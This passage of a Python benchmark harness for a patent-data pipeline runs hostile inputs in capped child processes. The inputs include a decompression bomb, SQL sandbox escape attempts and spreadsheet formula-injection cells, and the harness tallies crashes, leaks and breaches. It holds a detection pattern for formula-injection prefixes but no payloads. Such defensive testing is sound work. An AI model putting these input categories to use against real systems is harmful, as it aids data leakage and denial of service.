    from pipeline.config import Limits
    from pipeline.ingest.run import ingest

    limits = Limits(**spec["limits_all"])
    start = time.perf_counter()
    try:
        out = ingest([Path(p) for p in spec["paths"]], limits=limits, batch_size=spec.get("batch_size", 2000),
                     table_batch_size=spec.get("table_batch_size"))
    finally:
        res["seconds"] = time.perf_counter() - start
    files = out.report["files"]
    n, acc, merged, rej = (sum(f[k] for f in files) for k in ("records", "accepted", "merged_duplicates", "rejected"))
    res["lost"] = n - (acc + merged + rej)
    if res["lost"]:
        res["outcome"] = f"read: {n} records, {res['lost']} NOT accounted ({acc}+{merged}+{rej} != {n})"
    else:
        res["outcome"] = f"read: {n} records, all accounted ({acc}+{merged}+{rej} = {n})"
    notes = []
    if len(out.tables["patents"]) != acc:
        notes.append(f"patents table holds {len(out.tables['patents'])} rows, accepted {acc}")
    field_rej = sum(f["field_rejects"] for f in files)
    if field_rej:
        top = {}
        for f in files:
            for k, v in f["top_reject_reasons"].items():
                top[k] = top.get(k, 0) + v
        notes.append(f"{field_rej} field rejects (top: {max(top, key=top.get)[:70]})")
    if conflicts := sum(f.get("conflicts", 0) for f in files):
        notes.append(f"{conflicts} conflicting values recorded")
    for s in out.report["skipped"]:
        notes.append(f"skipped {Path(s['file']).name}: {s['reason']}")
    for f in out.report["failures"]:
        notes.append(f"failure {Path(f['file']).name}: {f['reason'][:90]}")
    if "written" in spec and n != spec["written"]:
        notes.append(f"{spec['written']} records written, {n} counted by the reader")
    if "expect_merged" in spec and merged < spec["expect_merged"]:
        notes.append(f"EXPECTED ≥ {spec['expect_merged']} merged, got {merged}")
    if spec.get("label_literal"):
        same = [f["file"] for f in files] == spec["paths"]
        notes.append("report names the file literally" if same else f"report names it {files[0]['file']!r}")
    leaks = sum(any(w in s for w in spec.get("forbid", [])) for s in _strings(out.tables))
    if leaks:
        notes.append(f"{leaks} cell(s) hold text from outside the input")
    res["breach"] += leaks
    res["notes"] += notes


def _run_read_list(spec: dict, res: dict) -> None:
    """:func:`pipeline.io.read_list` (the reader of ``patnav classify``) on one file."""
    from pipeline.io import read_list

    start = time.perf_counter()
    try:
        df, cols = read_list(Path(spec["path"]))
    finally:
        res["seconds"] = time.perf_counter() - start
    res["outcome"] = f"read: {len(df)} rows (list reader; title column {cols['title']!r})"


def _run_sql(spec: dict, res: dict) -> None:
    """:func:`pipeline.db.query` (the sandbox of ``patnav sql``): anything that runs is a breach, bar the control."""
    from pipeline import db

    start = time.perf_counter()
    try:
        df = db.query(spec["sql"], Path(spec["db"]))
    finally:
        res["seconds"] = time.perf_counter() - start
    text = df.astype(str).to_csv(index=False)
    res["outcome"] = f"ran: {len(df)} row(s)" + (f" [{text.splitlines()[1][:30]}]" if len(df) else "")
    if spec.get("expect") != "ran":
        res["breach"] += 1
        res["notes"].append("the statement ran")
    if any(w in text for w in spec.get("forbid", [])):
        res["breach"] += 1
        res["notes"].append("the result holds text from outside the database")


def _run_export(spec: dict, res: dict) -> None:
    """Write the table with the export writer, read it back: cells that would run as formulas."""
    import pandas as pd

    from pipeline import io as pio

    table = json.loads(Path(spec["table"]).read_text(encoding="utf-8"))
    df = pd.DataFrame({k: pd.Series(v, dtype=object if isinstance(v[0], str) else None) for k, v in table.items()})
    out = Path(spec["out"])
    start = time.perf_counter()
    try:
        if "sheets" in spec:
            pio.write_workbook({name: df for name in spec["sheets"]}, out)
        else:
            pio.write_export(df, out)
    finally:
        res["seconds"] = time.perf_counter() - start
    illegal = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
    formulas = illegal_n = cells = numeric = 0
    if out.suffix == ".xlsx":
        import openpyxl

        wb = openpyxl.load_workbook(out)
        sheets = wb.sheetnames
        for ws in wb:
            for row in ws.iter_rows():
                for c in row:
                    cells += 1
                    formulas += c.data_type == "f"  # openpyxl writes and reads any "=…" string as a formula
                    numeric += c.data_type == "n" and isinstance(c.value, (int, float)) and c.value < 0
                    illegal_n += isinstance(c.value, str) and bool(illegal.search(c.value))
        res["notes"].append(f"sheets {sheets}")
    else:
        text = out.read_bytes().decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for v in row:
                cells += 1
                illegal_n += bool(illegal.search(v))
                if v[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    try:
                        float(v)  # a number stays a number: -5 is no formula
                        numeric += v.startswith("-")
                    except ValueError:
                        formulas += 1
    res["breach"] += formulas + illegal_n
    res["outcome"] = "neutralised" if not formulas + illegal_n else f"NOT neutralised: {formulas} formula cells"
    res["notes"].append(f"{cells} cells read back: {formulas} would run as formulas, {illegal_n} hold XML-illegal "
                        f"characters; {numeric} negative numbers kept as numbers")


_RUNNERS = {"ingest": _run_ingest, "read_list": _run_read_list, "sql": _run_sql, "export": _run_export}


def _child(spec_json: str) -> None:
    """Run one case; print its result as the last line of stdout (JSON). Runs in a fresh interpreter.

    Parameters
    ----------
    spec_json : str
        The case's spec (``fn``: ingest | read_list | sql | export | baseline, its arguments,
        the checks after it, ``cap_gib``).
    """
    spec = json.loads(spec_json)
    cap = int(spec["cap_gib"] * 2**30)
    resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
    import pipeline.db  # noqa: F401  (imports before the clock starts, as in benchmarks/ingest.py)
    import pipeline.ingest.run  # noqa: F401
    import pipeline.io  # noqa: F401
    from pipeline.errors import PatNavError, QueryRefusedError

    res = {"outcome": "", "crash": "", "lost": None, "breach": 0, "notes": [], "seconds": None}
    try:
        if spec["fn"] != "baseline":
            _RUNNERS[spec["fn"]](spec, res)
    except QueryRefusedError:
        res["outcome"] = "refused (QueryRefusedError)"
    except PatNavError as exc:
        from pipeline.errors import InputError

        # An input's error: its path below the kind's folder, and the cause (the temporary folder says nothing).
        what = str(exc)
        if isinstance(exc, InputError) and spec.get("base"):
            what = f"{os.path.relpath(exc.path, spec['base'])}: {exc.cause}"
        res["outcome"] = f"named error: {type(exc).__name__}: {_first_line(what)}"
        if spec["fn"] == "sql":  # the sandbox's own refusal is the one expected answer
            res["crash"] = type(exc).__name__
        if spec.get("message_names"):
            res["notes"].append("message names the file literally" if spec["message_names"] in str(exc)
                                else "message does NOT name the file literally")
    except Exception as exc:  # noqa: BLE001 (any other exception is the finding this benchmark looks for)
        cls = type(exc)
        name = cls.__qualname__ if cls.__module__ == "builtins" else f"{cls.__module__}.{cls.__qualname__}"
        res["outcome"] = f"exception: {name}: {_first_line(exc)}"
        res["crash"] = name
        res["traceback"] = traceback.format_exc()[-3000:]
    for p in spec.get("absent", []):
        if Path(p).exists():
            res["breach"] += 1
            res["notes"].append(f"{Path(p).name} was written")
    for p in spec.get("empty", []):
        if any(Path(p).rglob("*")):
            res["breach"] += 1
            res["notes"].append(f"files appeared under {p}")
    res["peak_mib"] = _peak_mib()
    print(json.dumps(res))


def run_case(spec: dict, env: dict, cwd: Path, timeout: float) -> dict:
    """Run one case in a fresh interpreter pinned to core 0 (:func:`_child`).

    Parameters
    ----------
    spec : dict
        The case's spec.
    env : dict
        The child's environment (its HOME is inside the temporary folder).
    cwd : Path
        The child's working folder (the temporary folder: nothing lands in the checkout).
    timeout : float
        Seconds before the child is ended and the case counted as a crash.

    Returns
    -------
    dict
        outcome, crash, lost, breach, notes, seconds, peak_mib (and a traceback on a crash);
        a child that timed out or died counts as a crash.
    """
    code = f"import sys; sys.path.insert(0, {str(ROOT)!r}); import benchmarks.hostile as h; h._child(sys.argv[1])"
    cmd = [sys.executable, "-c", code, json.dumps(spec)]
    if _has_taskset():
        cmd = ["taskset", "-c", "0", *cmd]
    start = time.perf_counter()
    # A new session: on a timeout the whole group is ended, not only the interpreter.
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, cwd=cwd,
                            start_new_session=True)
    try:
        out, err = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        return {"outcome": f"no answer within {timeout:.0f} s", "crash": "Timeout", "lost": None, "breach": 0,
                "notes": [], "seconds": time.perf_counter() - start, "peak_mib": float("nan")}
    lines = out.strip().splitlines()
    if proc.returncode or not lines:
        how = (f"killed by {signal.Signals(-proc.returncode).name}" if proc.returncode < 0
               else f"exit status {proc.returncode}")
        return {"outcome": f"child died: {how}", "crash": how, "lost": None, "breach": 0, "notes": [],
                "traceback": err[-3000:], "seconds": time.perf_counter() - start, "peak_mib": float("nan")}
    return json.loads(lines[-1])


# ------------------------------------------------------------------------------ report
def stage_limits() -> dict:
    """``ingest.limits`` of params.yaml, as the stage reads them."""
    import yaml

    params = yaml.safe_load((ROOT / "params.yaml").read_text(encoding="utf-8"))
    return dict(params["ingest"]["limits"])


def _fmt_row(cells: list[str], widths: list[int]) -> str:
    """One line of the table: text columns to the left, the five counts to the right."""
    right = len(widths) - 5
    return "  ".join(f"{c:>{w}}" if i >= right else f"{c:<{w}}" for i, (c, w) in enumerate(zip(cells, widths)))


def print_table(cases: list[Case], tmp: Path, budget: float) -> None:
    """The table, one row per input, its notes under it; a peak over ``budget`` MiB is marked ``!``."""
    def short(text: str, n: int) -> str:
        text = text.replace(str(tmp), "$TMP").replace("\n", " ")
        return text if len(text) <= n else text[: n - 1] + "…"

    head = ["kind", "input", "data", "outcome", "crash", "lost", "breach", "peak MiB", "s"]
    rows = []
    for c in cases:
        r = c.result
        peak = r.get("peak_mib", float("nan"))
        over = peak == peak and peak > budget
        rows.append([c.kind, short(c.name, 58), c.data, short(r["outcome"], 96), r["crash"] or "0",
                     "-" if r["lost"] is None else str(r["lost"]), str(r["breach"]),
                     f"{peak:.0f}{' !' if over else ''}", "-" if r["seconds"] is None else f"{r['seconds']:.2f}"])
    widths = [max(len(h), *(len(r[i]) for r in rows)) for i, h in enumerate(head)]
    line = _fmt_row(head, widths)
    print(line)
    print("-" * len(line))
    for c, r in zip(cases, rows):
        print(_fmt_row(r, widths))
        if r[3].endswith("…"):
            print(" " * (widths[0] + 2) + "  · " + c.result["outcome"].replace(str(tmp), "$TMP"))
        for note in c.result.get("notes", []):
            print(" " * (widths[0] + 2) + "  · " + short(note, 150))


def _project_frames(tb: str, tmp: Path) -> list[str]:
    """The frames of a traceback inside this project (where a fix would go), and its last line."""
    lines = tb.replace(str(tmp), "$TMP").rstrip().splitlines()
    keep = []
    for i, line in enumerate(lines):
        if line.lstrip().startswith("File ") and str(ROOT / "pipeline") in line:
            keep += [line.strip(), "  " + lines[i + 1].strip()] if i + 1 < len(lines) else [line.strip()]
    return keep + lines[-1:]


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--quick", action="store_true",
                    help="skip the slowest inputs (the 1 GiB bomb; a 520 MiB workbook becomes a lowered limit)")
    ap.add_argument("--timeout", type=float, default=300,
                    help="seconds one input may take before it counts as a crash")
    ap.add_argument("--cap-gib", type=float, default=8, help="address-space cap of each child (GiB)")
    ap.add_argument("--keep", action="store_true", help="keep the generated inputs")
    args = ap.parse_args()

    t0 = time.perf_counter()
    limits = stage_limits()
    print(machine_line())
    print(load_line("at start") + " (another job on the machine shows here; each child has core 0)")
    print("inputs: GENERATED here, or MUTATED copies of real records of ../shared/data (legend below); "
          "built in a temporary folder ($TMP)\n")
    tmp = Path(tempfile.mkdtemp(prefix="patnav-hostile-"))
    failed = True
    try:
        (tmp / "home").mkdir()
        build = time.perf_counter()
        cases = [*build_workbooks(tmp, args.quick), *build_csv(tmp), *build_xml(tmp), *build_repeats(tmp),
                 *build_paths(tmp), *build_sql(tmp), *build_exports(tmp)]
        print(f"{len(cases)} inputs built in {time.perf_counter() - build:.1f} s\n", flush=True)
        print("running each in a fresh interpreter (progress on stderr) …", file=sys.stderr, flush=True)
        env = dict(os.environ, HOME=str(tmp / "home"), OMP_NUM_THREADS="1", OPENBLAS_NUM_THREADS="1",
                   MKL_NUM_THREADS="1", PYTHONDONTWRITEBYTECODE="1")
        base = run_case({"fn": "baseline", "cap_gib": args.cap_gib}, env, tmp, args.timeout)
        budget = base["peak_mib"] + limits["workbook_mb"]
        for c in cases:
            spec = {**c.spec, "cap_gib": args.cap_gib, "base": str(tmp / c.kind)}
            if spec["fn"] == "ingest":
                spec["limits_all"] = {**limits, **spec.pop("limits", {})}
            c.result = run_case(spec, env, tmp, args.timeout)
            print(f"  {c.kind:9} {c.name[:60]:60} {c.result['outcome'][:60]}", file=sys.stderr, flush=True)
        print_table(cases, tmp, budget)
        print("\ndata: GENERATED = written by this script alone (fixed seeds); MUTATED <key> rN = real record(s) "
              "of ../shared/data (data rows N), changed:")
        for key, what in SOURCES.items():
            print(f"  {key:9} {what}")

        crashes = [c for c in cases if c.result["crash"]]
        lost = sum(c.result["lost"] or 0 for c in cases)
        breaches = sum(c.result["breach"] for c in cases)
        peaks = [(c.result.get("peak_mib", float("nan")), c) for c in cases]
        valid = [(p, c) for p, c in peaks if p == p]
        top, top_case = max(valid, key=lambda t: t[0]) if valid else (float("nan"), None)
        over = [c for p, c in valid if p > budget]
        print("\nTotals")
        print("  inputs per kind: " + ", ".join(f"{k} {sum(c.kind == k for c in cases)}" for k in KINDS)
              + f" (total {len(cases)})")
        print(f"  crashes: {len(crashes)}    records lost: {lost}    breaches: {breaches}")
        recount = [c for c in cases if any("counted by the reader" in n for n in c.result.get("notes", []))]
        if recount:  # not "lost" (the report reconciles), but worth reading: the file's rows were joined
            print(f"  records written ≠ records the reader counted: {len(recount)} input(s): "
                  + "; ".join(f"{c.kind}: {c.name}" for c in recount))
        print(f"  peak RSS: baseline (interpreter + pipeline imports, no input) {base['peak_mib']:.0f} MiB; "
              f"max {top:.0f} MiB ({top_case.kind}: {top_case.name}); "
              f"budget baseline + workbook_mb = {budget:.0f} MiB; "
              f"over budget: {len(over)}")
        print("  limits (params.yaml ingest.limits, as the stage uses them): "
              + ", ".join(f"{k}={v}" for k, v in limits.items()))
        if args.quick:
            print("  --quick: the 1 GiB shared-string bomb skipped; the workbook over workbook_mb SIMULATED "
                  "(2 MiB added to the real workbook, workbook_mb lowered to that workbook's own size rounded up)")
        for c in crashes:
            print(f"\ncrash: {c.kind} / {c.name}: {c.result['crash']}")
            print("\n".join("  " + line for line in _project_frames(c.result.get("traceback", ""), tmp)))
        print(f"\n{load_line('at end')}; total {time.perf_counter() - t0:.0f} s")
        failed = bool(crashes or lost or breaches or over)
    finally:
        if args.keep:
            print(f"inputs kept in {tmp}")
        else:
            shutil.rmtree(tmp, ignore_errors=True)
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
